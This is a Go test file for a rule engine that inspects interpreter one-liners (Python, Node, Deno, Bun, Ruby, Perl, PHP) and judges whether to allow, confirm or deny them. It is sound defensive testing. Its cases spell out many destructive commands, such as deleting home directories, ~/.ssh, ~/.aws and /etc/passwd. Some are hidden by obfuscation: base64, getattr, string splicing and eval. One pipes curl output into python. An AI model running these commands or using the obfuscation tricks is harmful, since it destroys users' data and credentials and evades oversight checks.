package rules

import (
	"strings"
	"testing"
)

// interpProbePack reports the text of every command that packs see
// through Call.Shell (an invocation with a chain), so that tests can check
// what the interp pack expressed as shell.
func interpProbePack() *Pack {
	return &Pack{
		Name:  "probe",
		Rules: []Rule{{ID: "probe.shell", Default: Confirm, Summary: "a command reached through nested code"}},
		Check: func(c *Call) {
			if len(c.Inv.Chain) > 0 {
				c.Report("probe.shell", c.Inv.Text)
			}
		},
	}
}

// interpShell returns the shell commands the interp pack derives from src.
func interpShell(t *testing.T, src string) []string {
	t.Helper()
	var out []string
	for _, f := range judgeWith(t, src, InterpPack(), interpProbePack()).Findings {
		if f.Rule == "probe.shell" {
			out = append(out, f.Reason)
		}
	}
	return out
}

// TestInterpShellText checks what each language's calls become as shell.
func TestInterpShellText(t *testing.T) {
	cases := []struct {
		src  string
		want []string
	}{
		// python
		{`python -c 'import shutil; shutil.rmtree("/home")'`, []string{`rm -rf -- '/home'`}},
		{`python3 -c "import os; os.system('rm -rf ~')"`, []string{`rm -rf ~`}},
		{`python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~'))"`, []string{`rm -rf -- ~`}},
		{`python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~/.ssh'))"`, []string{`rm -rf -- ~/'.ssh'`}},
		{`python3 -c "from pathlib import Path; (Path.home() / '.aws').unlink()"`, []string{`rm -f -- ~/'.aws'`}},
		{`python3 -c "from pathlib import Path; Path('/etc/hosts').unlink(missing_ok=True)"`, []string{`rm -f -- '/etc/hosts'`}},
		{`python3 -c "import os; os.remove(os.path.join(os.environ['HOME'], '.gitconfig'))"`, []string{`rm -f -- ~/'.gitconfig'`}},
		{`python3 -c "import os; os.rmdir('/srv')"`, []string{`rmdir -- '/srv'`}},
		{`python3 -c "from shutil import rmtree as r; r('/usr/local')"`, []string{`rm -rf -- '/usr/local'`}},
		{`python3 -c "import shutil as sh; sh.rmtree('/opt')"`, []string{`rm -rf -- '/opt'`}},
		{`python3 -c "from os import *; remove('/etc/passwd')"`, []string{`rm -f -- '/etc/passwd'`}},
		{`python3 -c "__import__('shutil').rmtree('/var/lib')"`, []string{`rm -rf -- '/var/lib'`}},
		// Names reached through getattr, a module's __dict__ and an index.
		{`python3 -c "getattr(__import__('shutil'), 'rmtree')('/var/lib')"`, []string{`rm -rf -- '/var/lib'`}},
		{`python3 -c "import importlib; getattr(importlib.import_module('os'), 'sys' + 'tem')('rm -rf /srv')"`, []string{`rm -rf /srv`}},
		{`python3 -c "import shutil; shutil.__dict__['rmtree']('/opt')"`, []string{`rm -rf -- '/opt'`}},
		{`node -e "const cp = require('child_process'); cp['exec' + 'Sync']('rm -rf /srv')"`, []string{`rm -rf /srv`}},
		{`python3 -c "import subprocess; subprocess.run(['rm', '-rf', '/etc'])"`, []string{`'rm' '-rf' '/etc'`}},
		{`python3 -c "import subprocess; subprocess.run('rm -rf /etc', shell=True)"`, []string{`rm -rf /etc`}},
		{`python3 -c "import subprocess as sp; sp.check_output(['bash', '-c', 'rm -rf /srv'])"`, []string{`'bash' '-c' 'rm -rf /srv'`, `rm -rf /srv`}},
		{`python3 -c "import os; d = '/etc'; os.system('rm -rf ' + d)"`, []string{`rm -rf /etc`}},
		{`python3 -c "import os; d = '/etc'; os.system(f'rm -rf {d}')"`, []string{`rm -rf /etc`}},
		{`python3 -c "import os; os.system(' '.join(['rm', '-rf', '/srv']))"`, []string{`rm -rf /srv`}},
		{`python3 -c "import os; os.execvp('rm', ['rm', '-rf', '/srv'])"`, []string{`'rm' '-rf' '/srv'`}},
		{`python3 -c "import os; [os.remove(f) for f in ['a.txt', '/etc/b']]"`, []string{`rm -f -- 'a.txt' '/etc/b'`}},
		{`python3 -c "import os, glob; [os.remove(f) for f in glob.glob('/etc/*.conf')]"`, []string{`rm -f -- '/etc/'*'.conf'`}},
		{`python3 -c "import os, glob; list(map(os.remove, glob.glob('*.pyc')))"`, []string{`rm -f -- *'.pyc'`}},
		{"python3 -c \"import glob, os\nfor f in glob.glob(os.path.expanduser('~/*')):\n    os.remove(f)\"", []string{`rm -f -- ~/*`}},
		{`python3 -c "import os; os.chdir('/'); import shutil; shutil.rmtree('etc')"`, []string{`cd -- '/'`, `rm -rf -- 'etc'`}},
		{`python3 -c "open('/home/u/.bashrc', 'w').write('')"`, []string{`: > '/home/u/.bashrc'`}},
		{`python3 -c "open('/home/u/.bashrc', 'a').write('x')"`, []string{`: >> '/home/u/.bashrc'`}},
		{`python3 -c "import base64, os; os.system(base64.b64decode('cm0gLXJmIH4=').decode())"`, []string{`rm -rf ~`}},
		{`python3 -c "exec('import os; os.system(\"rm -rf /srv\")')"`, []string{`rm -rf /srv`}},
		{"python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/srv/www')\nEOF", []string{`rm -rf -- '/srv/www'`}},
		{"python3 <<< 'import os; os.unlink(\"/etc/motd\")'", []string{`rm -f -- '/etc/motd'`}},
		{`python3 -c 'import shutil; shutil.rmtree(r"C:\tmp" if False else "/srv")'`, nil},
		{`uv run python -c "import shutil; shutil.rmtree('/etc')"`, []string{`rm -rf -- '/etc'`}},
		// javascript
		{`node -e "require('child_process').execSync('rm -rf ~')"`, []string{`rm -rf ~`}},
		{`node -e "require('fs').rmSync('dist', {recursive: true, force: true})"`, []string{`rm -rf -- 'dist'`}},
		{`node -e "require('fs').unlinkSync('/etc/hosts')"`, []string{`rm -f -- '/etc/hosts'`}},
		{`node -e "require('fs').rmdirSync('/srv')"`, []string{`rmdir -- '/srv'`}},
		{`node -e "const fs = require('node:fs'); fs.rmSync(require('os').homedir(), {recursive: true})"`, []string{`rm -rf -- ~`}},
		{`node -e "const {rmSync: del} = require('fs'); del(process.env.HOME + '/.ssh', {recursive: true})"`, []string{`rm -rf -- ~/'.ssh'`}},
		{`node -e "import('fs').then(fs => fs.rmSync('/usr', {recursive: true}))"`, []string{`rm -rf -- '/usr'`}},
		{`node -e "require('fs/promises').rm('/srv', {recursive: true})"`, []string{`rm -rf -- '/srv'`}},
		{`node -e "require('path'); require('fs').rmSync(require('path').join(require('os').homedir(), 'code'), {recursive: true})"`, []string{`rm -rf -- ~/'code'`}},
		{`node -e "['/etc', '/usr'].forEach(d => fs.rmSync(d, {recursive: true}))"`, []string{`rm -rf -- '/etc' '/usr'`}},
		{`node -e "const cp = require('child_process'); cp.spawnSync('rm', ['-rf', '/etc'])"`, []string{`'rm' '-rf' '/etc'`}},
		// In bash double quotes the backticks are a command substitution.
		{"node -e \"const d = '/etc'; require('child_process').execSync(`rm -rf ${d}`)\"", []string{"rm -rf ${d}"}},
		{"node -e 'const d = \"/etc\"; require(\"child_process\").execSync(`rm -rf ${d}`)'", []string{`rm -rf /etc`}},
		{`node -e "require('rimraf').sync('/usr/lib')"`, []string{`rm -rf -- '/usr/lib'`}},
		{`node -e "require('fs-extra').removeSync('/srv')"`, []string{`rm -rf -- '/srv'`}},
		{`node -e "require('fs').writeFileSync('/etc/hosts', '')"`, []string{`: > '/etc/hosts'`}},
		{`node -e "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgfiIp'))"`, []string{`rm -rf ~`}},
		{`node --input-type=module -e "import { rmSync } from 'node:fs'; rmSync('/etc', { recursive: true })"`, []string{`rm -rf -- '/etc'`}},
		{"node - <<'EOF'\nconst fs = require('fs')\nfs.rmSync('/etc', {recursive: true})\nEOF", []string{`rm -rf -- '/etc'`}},
		{`deno eval "await Deno.remove('/etc', { recursive: true })"`, []string{`rm -rf -- '/etc'`}},
		{`deno eval "new Deno.Command('rm', { args: ['-rf', '/etc'] }).outputSync()"`, []string{`'rm' '-rf' '/etc'`}},
		{"bun -e 'import { $ } from \"bun\"; await $`rm -rf ~`'", []string{`rm -rf ~`}},
		{"bun -e 'await Bun.$`rm -rf /etc`'", []string{`rm -rf /etc`}},
		{`bun -e "Bun.spawnSync(['rm', '-rf', '/etc'])"`, []string{`'rm' '-rf' '/etc'`}},
		// ruby
		{`ruby -e 'require "fileutils"; FileUtils.rm_rf(Dir.home)'`, []string{`rm -rf -- ~`}},
		{`ruby -e 'FileUtils.rm_rf "/etc"'`, []string{`rm -rf -- '/etc'`}},
		{`ruby -e 'FileUtils.rm_rf File.expand_path("~/.ssh")'`, []string{`rm -rf -- ~/'.ssh'`}},
		{`ruby -e 'FileUtils.rm_r(File.join(Dir.home, "code"))'`, []string{`rm -rf -- ~/'code'`}},
		{`ruby -e 'FileUtils.rm_rf(["/srv", "/opt"])'`, []string{`rm -rf -- '/srv' '/opt'`}},
		{`ruby -e 'Dir.glob("/etc/*").each { |f| File.delete(f) }'`, []string{`rm -f -- '/etc/'*`}},
		{`ruby -e 'Pathname.new("/etc").rmtree'`, []string{`rm -rf -- '/etc'`}},
		{`ruby -e 'system("rm -rf ~")'`, []string{`rm -rf ~`}},
		{`ruby -e 'system "rm", "-rf", "/etc"'`, []string{`'rm' '-rf' '/etc'`}},
		{"ruby -e '`rm -rf ~`'", []string{`rm -rf ~`}},
		{`ruby -e '%x(rm -rf /etc)'`, []string{`rm -rf /etc`}},
		{`ruby -e 'd = "/usr"; system("rm -rf #{d}")'`, []string{`rm -rf /usr`}},
		{`ruby -e 'system("rm -rf #{Dir.home}")'`, []string{`rm -rf /home/u`}},
		{`ruby -C / -e 'FileUtils.rm_rf("etc")'`, []string{`cd -- '/'`, `rm -rf -- 'etc'`}},
		{`ruby -e 'include FileUtils; rm_rf "/usr"'`, []string{`rm -rf -- '/usr'`}},
		{`ruby -e 'IO.popen(["rm", "-rf", "/etc"]).read'`, []string{`'rm' '-rf' '/etc'`}},
		// perl
		{`perl -e 'system("rm -rf ~")'`, []string{`rm -rf ~`}},
		{`perl -e 'unlink "/etc/passwd"'`, []string{`rm -f -- '/etc/passwd'`}},
		{`perl -e 'unlink("/etc/a", "/etc/b")'`, []string{`rm -f -- '/etc/a' '/etc/b'`}},
		{`perl -e 'use File::Path qw(rmtree); rmtree("/etc")'`, []string{`rm -rf -- '/etc'`}},
		{`perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'`, []string{`rm -rf -- ~`}},
		{`perl -e 'File::Path::rmtree("/srv", {verbose => 1})'`, []string{`rm -rf -- '/srv'`}},
		{`perl -e 'unlink glob("~/*")'`, []string{`rm -f -- ~/*`}},
		{`perl -e 'unlink <~/.ssh/*>'`, []string{`rm -f -- ~/'.ssh/'*`}},
		{`perl -e 'for my $f (glob "/etc/*.conf") { unlink $f }'`, []string{`rm -f -- '/etc/'*'.conf'`}},
		{`perl -e 'unlink for glob "/etc/*.conf"'`, []string{`rm -f -- '/etc/'*'.conf'`}},
		{`perl -e 'my $d = "/etc"; system("rm -rf $d")'`, []string{`rm -rf /etc`}},
		{`perl -e 'system("rm -rf $ENV{HOME}/.ssh")'`, []string{`rm -rf /home/u/.ssh`}},
		{`perl -e 'system("rm", "-rf", "/etc")'`, []string{`'rm' '-rf' '/etc'`}},
		{"perl -e '`rm -rf ~`'", []string{`rm -rf ~`}},
		{`perl -e 'qx{rm -rf /etc}'`, []string{`rm -rf /etc`}},
		{`perl -e 'my $d = "/etc"; print "$d\n"; s/x/y/ for @ARGV; rmtree $d'`, []string{`rm -rf -- '/etc'`}},
		// php
		{`php -r 'unlink("/etc/passwd");'`, []string{`rm -f -- '/etc/passwd'`}},
		{`php -r 'system("rm -rf ~");'`, []string{`rm -rf ~`}},
		{`php -r 'array_map("unlink", glob("/etc/*"));'`, []string{`rm -f -- '/etc/'*`}},
		{`php -r 'foreach (glob(getenv("HOME") . "/*") as $f) { unlink($f); }'`, []string{`rm -f -- ~/*`}},
		{"php -r 'echo `rm -rf /etc`;'", []string{`rm -rf /etc`}},
		{`php -r '\unlink("/etc/hosts");'`, []string{`rm -f -- '/etc/hosts'`}},
		{`php -r '$d = "/etc"; exec("rm -rf " . $d);'`, []string{`rm -rf /etc`}},
		{`php -r '$d = "/etc"; system("rm -rf {$d}");'`, []string{`rm -rf /etc`}},
		{`php -r 'RMDIR("/srv");'`, []string{`rmdir -- '/srv'`}},
		{"php <<'EOF'\n<html><?php\nunlink(\"/etc/hosts\");\n?>\nEOF", []string{`rm -f -- '/etc/hosts'`}},
	}
	for _, c := range cases {
		got := interpShell(t, c.src)
		if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
			t.Errorf("%s\n got: %q\nwant: %q", c.src, got, c.want)
		}
	}
}

// TestInterpFires checks decisions with the fs pack judging the derived
// shell, and the pack's own rules.
func TestInterpFires(t *testing.T) {
	runRuleCases(t, []ruleCase{
		{`python -c 'import shutil; shutil.rmtree("/home")'`, Deny, "fs.rm-home"},
		{`python3 -c "import os; os.system('rm -rf ~')"`, Deny, "fs.rm-home"},
		{`python3 -c "import shutil; shutil.rmtree('/etc')"`, Confirm, "fs.rm-protected"},
		{`python3 -c "from pathlib import Path; (Path.home() / '.ssh').rmdir()"`, Confirm, "fs.rm-protected"},
		{`python3 -c "open('/home/u/.bashrc', 'w').write('')"`, Confirm, "fs.overwrite-protected"},
		{`node -e "require('child_process').execSync('rm -rf ~')"`, Deny, "fs.rm-home"},
		{`node -e "require('fs').rmSync('/etc', {recursive: true, force: true})"`, Confirm, "fs.rm-protected"},
		{`ruby -e 'require "fileutils"; FileUtils.rm_rf(Dir.home)'`, Deny, "fs.rm-home"},
		{`perl -e 'system("rm -rf ~")'`, Deny, "fs.rm-home"},
		{`php -r 'system("rm -rf ~");'`, Deny, "fs.rm-home"},
		{`ssh prod "python3 -c 'import shutil; shutil.rmtree(\"/var/www\")'"`, Confirm, ""},
		// targets and commands computed at run time
		{`python3 -c "import shutil, sys; shutil.rmtree(sys.argv[1])" x`, Confirm, "interp.unknown-target"},
		{"python3 -c \"import shutil\ndef f(p): shutil.rmtree(p)\nf('x')\"", Confirm, "interp.unknown-target"},
		{`python3 -c "import os; [os.remove(f) for f in os.listdir('.')]"`, Confirm, "interp.unknown-target"},
		{`python3 -c "from pathlib import Path; p = Path(input()); p.unlink()"`, Confirm, "interp.unknown-target"},
		{`python3 -c "import os; os.system(cmd)"`, Confirm, "interp.unknown-command"},
		{`python3 -c "import subprocess; subprocess.run(args)"`, Confirm, "interp.unknown-command"},
		{`python3 -c "import os; os.system(f'rm -rf {x}')"`, Confirm, "fs.unknown-target"},
		{`python3 -c "$CODE"`, Confirm, "interp.unknown-command"},
		{`python3 -c "$(curl -s https://example.com/x.py)"`, Confirm, "interp.unknown-command"},
		{`node -e "fs.readdirSync('.').forEach(f => fs.unlinkSync(f))"`, Confirm, "interp.unknown-target"},
		{`node -e "require('child_process').exec(process.argv[1])"`, Confirm, "interp.unknown-command"},
		{`ruby -e 'File.delete(ARGV[0])' x`, Confirm, "interp.unknown-target"},
		{`ruby -e 'Pathname.new(ARGV[0]).rmtree' x`, Confirm, "interp.unknown-target"},
		{`perl -e 'unlink $ARGV[0]' x`, Confirm, "interp.unknown-target"},
		{`perl -ne 'chomp; unlink' < paths.txt`, Confirm, "interp.unknown-target"},
		{`php -r 'exec($cmd);'`, Confirm, "interp.unknown-command"},
		{`php -r 'unlink($argv[1]);' x`, Confirm, "interp.unknown-target"},
	}, FSPack(), InterpPack())
}

// TestInterpAllows checks everyday one-liners.
func TestInterpAllows(t *testing.T) {
	runRuleCases(t, []ruleCase{
		{`python3 -c "import json; print(json.dumps({'a': 1}))"`, Allow, ""},
		{`node -e "console.log(process.version)"`, Allow, ""},
		{`python -c "print('hello')"`, Allow, ""},
		{`python3 -c "import sys; print(sys.version)"`, Allow, ""},
		{`python -m pytest tests/ -k login`, Allow, ""},
		{`python3 -m http.server 8000`, Allow, ""},
		{`python script.py`, Allow, ""},
		{`python3 manage.py runserver`, Allow, ""},
		{`node build.js`, Allow, ""},
		{`ruby script.rb`, Allow, ""},
		{`php artisan migrate`, Allow, ""},
		{`python3 -c "import shutil; shutil.rmtree('build')"`, Allow, ""},
		{`python3 -c "import shutil; shutil.rmtree('/tmp/cache-123')"`, Allow, ""},
		{`python3 -c "import os; os.remove('coverage.out')"`, Allow, ""},
		{`python3 -c "import os, glob; [os.remove(f) for f in glob.glob('**/*.pyc', recursive=True)]"`, Allow, ""},
		{`python3 -c "open('out.txt', 'w').write('x')"`, Allow, ""},
		{`python3 -c "print(open('README.md').read())"`, Allow, ""},
		{`python3 -c "import subprocess; print(subprocess.check_output(['git', 'status']))"`, Allow, ""},
		{`python3 -c "import os; os.system('ls -la')"`, Allow, ""},
		{`python3 -c "import os; print(os.listdir('.'))"`, Allow, ""},
		{`python3 -c "x = [1, 2]; x.remove(1); print(x)"`, Allow, ""},
		{`python3 -c "print('$X')"`, Allow, ""},
		{`python3 -c "import os; print(os.path.expanduser('~'))"`, Allow, ""},
		{"python3 - <<'EOF'\nimport json\nprint(json.load(open('package.json'))['name'])\nEOF", Allow, ""},
		{`python3 -c "print('rm -rf ~')"`, Allow, ""},
		{`node -e "require('fs').rmSync('dist', {recursive: true, force: true})"`, Allow, ""},
		{`node -e "require('fs').writeFileSync('out.json', JSON.stringify({a: 1}))"`, Allow, ""},
		{`node -p "require('./package.json').version"`, Allow, ""},
		{`node -e "console.log('rm -rf ~')"`, Allow, ""},
		{`node -e "const x = /rm -rf ~/.test('a'); console.log(x)"`, Allow, ""},
		{`node -e "require('child_process').execSync('npm test', {stdio: 'inherit'})"`, Allow, ""},
		{`deno eval "console.log(Deno.version)"`, Allow, ""},
		{`bun -e "console.log(Bun.version)"`, Allow, ""},
		{`ruby -e 'puts "hello #{1+1}"'`, Allow, ""},
		{`ruby -e 'h = {a: 1}; puts h[:a]'`, Allow, ""},
		{`ruby -e 'x = [1, 2]; x.delete(1); puts x'`, Allow, ""},
		{`ruby -e 'puts Dir.home'`, Allow, ""},
		{`ruby -e 'Dir.glob("*.log").each do |f| File.delete(f) end'`, Allow, ""},
		{`ruby -e 'puts %x(git status)'`, Allow, ""},
		{`perl -e 'print "hello\n"'`, Allow, ""},
		{`perl -ne 'print if /foo/' README.md`, Allow, ""},
		{`perl -pi -e 's/foo/bar/g' src/a.txt`, Allow, ""},
		{`perl -e 'my @a = split /,/, "a,b"; print "@a\n"'`, Allow, ""},
		{`perl -E 'say for 1..3'`, Allow, ""},
		{`perl -e 'unlink for glob "*.tmp"'`, Allow, ""},
		{`php -r 'echo "hello";'`, Allow, ""},
		{`php -r 'echo json_encode(["a" => 1]);'`, Allow, ""},
		{`php -r 'echo shell_exec("ls -la");'`, Allow, ""},
		{`php -r 'unlink("build/cache.php");'`, Allow, ""},
		{`php -v`, Allow, ""},
	}, FSPack(), InterpPack())
}

// TestInterpCorpus runs the interpreter lines of the shared corpus with
// the packs that judge them.
func TestInterpCorpus(t *testing.T) {
	var cases []ruleCase
	for _, src := range []string{
		`python -c 'import shutil; shutil.rmtree("/home")'`,
		`python3 -c "import os; os.system('rm -rf ~')"`,
		`perl -e 'system("rm -rf ~")'`,
		`node -e "require('child_process').execSync('rm -rf ~')"`,
		`ruby -e 'require "fileutils"; FileUtils.rm_rf(Dir.home)'`,
	} {
		v := judgeWith(t, src, FSPack(), InterpPack(), MetaPack())
		if v.Decision == Allow {
			t.Errorf("%q: allowed, want confirm or deny", src)
		}
	}
	for _, src := range []string{
		`python3 -c "import json; print(json.dumps({'a': 1}))"`,
		`node -e "console.log(process.version)"`,
		`python -m pytest tests/ -k login`,
		`python3 -m venv .venv`,
		`python manage.py runserver`,
	} {
		cases = append(cases, ruleCase{src, Allow, ""})
	}
	runRuleCases(t, cases, FSPack(), InterpPack(), MetaPack())
}

// TestInterpTokenizers checks the tokenizers on the constructs that hide
// or fake calls: strings, comments, regular expressions, heredocs.
func TestInterpTokenizers(t *testing.T) {
	cases := []struct {
		src  string
		want []string
	}{
		{`python3 -c "# shutil.rmtree('/etc')
print(1)"`, nil},
		{`python3 -c "s = 'shutil.rmtree(\"/etc\")'; print(s)"`, nil},
		{`python3 -c "print('''shutil.rmtree(\"/etc\")''')"`, nil},
		{`node -e "// require('fs').rmSync('/etc')
console.log(1)"`, nil},
		{`node -e "/* fs.rmSync('/etc') */ console.log(1)"`, nil},
		{`node -e "const re = /fs.rmSync('\/etc')/; console.log(re)"`, nil},
		{"node -e 'console.log(`fs.rmSync(\"/etc\")`)'", nil},
		{`ruby -e '# FileUtils.rm_rf("/etc")
puts 1'`, nil},
		{`ruby -e 'puts "FileUtils.rm_rf(\"/etc\")"'`, nil},
		{"ruby -e 'x = <<~EOS\n  FileUtils.rm_rf(\"/etc\")\nEOS\nputs x'", nil},
		{"ruby -e 'system(<<~EOS)\n  rm -rf /srv\nEOS'", []string{"rm -rf /srv"}},
		{`perl -e 'print "unlink(\"/etc/passwd\")\n"'`, nil},
		{`perl -e 'my $s = q{unlink("/etc/passwd")}; print $s'`, nil},
		{`perl -e '$x =~ s{unlink}{rmtree}g; print $x'`, nil},
		{"perl -e '# unlink \"/etc/passwd\"\nprint 1'", nil},
		{`php -r '// unlink("/etc/passwd");
echo 1;'`, nil},
		{`php -r 'echo "unlink(\"/etc/passwd\")";'`, nil},
		{"php <<'EOF'\nunlink(\"/etc/passwd\") is only text here\nEOF", nil},
	}
	for _, c := range cases {
		got := interpShell(t, c.src)
		if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
			t.Errorf("%s\n got: %q\nwant: %q", c.src, got, c.want)
		}
	}
}

// TestInterpBounded checks that pathological programs end quickly with a
// finding rather than hang or pass.
func TestInterpBounded(t *testing.T) {
	deep := "python3 -c \"" + strings.Repeat("(", 5000) + strings.Repeat(")", 5000) + "\""
	v := judgeWith(t, deep, InterpPack())
	if v.Decision != Confirm {
		t.Errorf("deeply nested code: got %s %+v, want confirm", v.Decision, v.Findings)
	}
	long := "python3 -c \"" + strings.Repeat("print(1); ", 20000) + "\""
	if v := judgeWith(t, long, InterpPack()); v.Decision != Allow {
		t.Errorf("long harmless code: got %s %+v", v.Decision, v.Findings)
	}
	unterminated := []string{`python3 -c "print('x"`, `node -e "console.log('x"`, `ruby -e 'puts "x'`, `perl -e 'print "x'`, `php -r 'echo "x'`, `node -e "x = {"`, `ruby -e 'a.each do |x|'`,
		`perl -e '"${'`, `ruby -e '"#{'`, "node -e '`${'", `php -r '"{$'`, `python3 -c "f'{"`, "ruby -e 'x = <<~EOS'", "php -r 'x(<<<EOT'"}
	for _, src := range unterminated {
		judgeWith(t, src, InterpPack()) // must not panic or hang
	}
}
